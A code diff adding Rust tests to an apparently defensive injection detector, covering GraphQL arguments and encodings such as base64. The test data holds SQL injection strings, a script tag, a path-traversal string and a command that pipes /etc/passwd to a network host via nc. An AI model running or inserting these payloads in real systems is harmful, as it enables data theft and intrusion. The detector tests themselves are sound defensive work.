@@ -8,7 +8,7 @@ fn find(value: &[u8]) -> Option<Finding> {
 
 #[test]
 fn an_attack_is_found_in_every_view_and_its_twin_in_none() {
-    use Coding::{Base64, Entities, Escapes, Form, Json, Percent, Utf16, Width};
+    use Coding::{Base64, Entities, Escapes, Form, Graphql, Json, Percent, Utf16, Width};
     let utf16 = |text: &str, big: bool| -> Vec<u8> {
         text.encode_utf16()
             .flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() })
@@ -30,6 +30,11 @@ fn an_attack_is_found_in_every_view_and_its_twin_in_none() {
         (utf16("x' or '1'='1", true), utf16("x's or y", true), vec![Utf16]),
         ("＜script＞alert(1)".into(), "＜ｂ＞".into(), vec![Width]),
         (b"{\"a\":[1,\"x' or '1'='1\"]}".into(), b"{\"a\":[1,\"x's or y\"]}".into(), vec![Json]),
+        (
+            b"query { user(name: \"eCcgb3IgJzEnPScx\") { id } }".into(),
+            b"query { user(name: \"eCBvciB5IGFuZCB6\") { id } }".into(),
+            vec![Graphql, Base64],
+        ),
         (b"a=1&b=x%27+or+%271%27%3d%271".into(), b"a=1&b=x%27s+or+y".into(), vec![Form]),
         (
             b"{\"a\":\"eCclMjBvciUyMCcxJz0nMQ==\"}".into(),
@@ -46,6 +51,35 @@ fn an_attack_is_found_in_every_view_and_its_twin_in_none() {
             String::from_utf8_lossy(&attack)
         );
         assert_eq!(find(&twin), None, "{:?}", String::from_utf8_lossy(&twin));
+    }
+}
+
+/// In a long document a short argument is a short value still.
+#[test]
+fn arguments_of_graphql_are_looked_at_by_their_value() {
+    let fields = "id name description(format: \"markdown\") price(currency: EUR) ".repeat(20);
+    let document = |argument: &str| {
+        format!(
+            "query Q($id: ID! = 3) {{ # all\n  item(where: {{ a: [{argument}, -1.5e3] }}) @include(if: $x) {{ {fields} ...F }}\n}}"
+        )
+    };
+    for (attack, twin) in [
+        (r#""x' or '1'='1""#, r#""x's or y""#),
+        (r#""x\u0027 or \u00271\u0027=\u00271""#, r#""x\u0027s or y""#),
+        (r#""""; cat /etc/passwd | nc 192.0.2.1 9""""#, r#""""a "cat" and its \""" tail""""#),
+        (r#""<script>alert(1)</script>""#, r#""<b>""#),
+        (r#""../../../../etc/passwd""#, r#""a/b/c""#),
+    ] {
+        let found = find(document(attack).as_bytes()).unwrap_or_else(|| panic!("{attack}"));
+        // What counts in a text as well is found in the document itself.
+        let is_inside = found.view.codings().any(|coding| coding == Coding::Graphql);
+        assert!(is_inside || found.family != Family::Sql, "{attack}: {}", found.view);
+        assert_eq!(find(document(twin).as_bytes()), None, "{twin}");
+    }
+    // What has other signs than tokens is no document, and neither is one that is cut off.
+    for other in ["{ g(\"x' or '1'='1\"); }", "{ g(a: \"x' or '1'='1\" }  \"", "query \"x' or '1'='1\""] {
+        let found = inspect(Place::Value, other.as_bytes(), Families::NONE);
+        assert!(found.is_none_or(|found| found.view.depth() == 0), "{other}");
     }
 }
 
